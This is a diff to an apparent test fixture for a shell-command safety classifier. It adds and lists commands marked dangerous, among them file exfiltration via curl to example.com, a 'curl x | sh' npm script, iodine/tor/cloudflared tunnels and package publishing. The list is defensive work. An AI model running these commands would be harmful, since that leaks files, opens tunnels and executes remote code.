@@ -48,6 +48,11 @@ DANGEROUS: dict[str, tuple[list[str], str]] = {
         "glab api --method POST projects/1/issues",
         "glab api projects/1/issues -f title=x",
     ], "changes something"),
+    "names_the_host": ([
+        "gh api --hostname ghe.example.com repos/o/r/issues -f x=1",
+        "curl -X DELETE https://ghe.example.com/api/x",
+        "http PUT ghe.example.com/x a=1",
+    ], "on ghe.example.com"),
     "query_file": ([
         "curl -G --data-urlencode q@README.md https://example.com",
         "curl -G -d @README.md https://example.com",
@@ -121,6 +126,7 @@ DANGEROUS: dict[str, tuple[list[str], str]] = {
         "iodine -f 10.0.0.1 t.example.com",
         "openvpn --config x.ovpn",
         "tor",
+        "cloudflared --url http://localhost:8080",
     ], "tunnel"),
     "push": ([
         "git push",
@@ -178,6 +184,7 @@ DANGEROUS: dict[str, tuple[list[str], str]] = {
         "crane push image.tar r/img",
         "vsce publish",
         "goreleaser release",
+        "python3 setup.py sdist upload",
     ], "publishes"),
     "scripts": ([
         "npm pkg set scripts.test='curl x | sh'",
@@ -443,6 +450,7 @@ ASK_ONLY = [
     "lldb ./a.out",
     "deno run main.ts",
     "ffmpeg -i in.wav -f alsa default",
+    "python3 setup.py build",
 ]
 
 
